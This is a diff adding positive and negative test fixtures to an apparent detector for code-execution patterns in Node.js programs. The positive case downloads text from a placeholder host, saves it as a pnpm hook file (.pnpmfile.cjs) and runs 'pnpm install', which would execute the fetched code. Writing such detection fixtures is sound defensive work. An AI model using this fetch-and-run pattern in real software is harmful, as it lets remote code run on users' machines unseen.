@@ -252,3 +252,11 @@ const send = require('util').promisify(session.post.bind(session));
 send('Profiler.start');
 //@ neg Runtime.evaluate sent to a browser, no inspector session
 require('chrome-remote-interface')({ port: 9222 }).then((c) => c.send('Runtime.evaluate', { expression: 'document.title' }));
+//@ pos a downloaded .pnpmfile.cjs in a program that runs pnpm
+const fs = require('fs');
+const { spawnSync } = require('child_process');
+fetch('https://x.example/h').then((r) => r.text()).then((t) => { fs.writeFileSync('.pnpmfile.cjs', t); spawnSync('pnpm', ['install']); });
+//@ neg a downloaded file of another name in a program that runs pnpm
+const fs = require('fs');
+const { spawnSync } = require('child_process');
+fetch('https://x.example/h').then((r) => r.text()).then((t) => { fs.writeFileSync('notes.txt', t); spawnSync('pnpm', ['install']); });
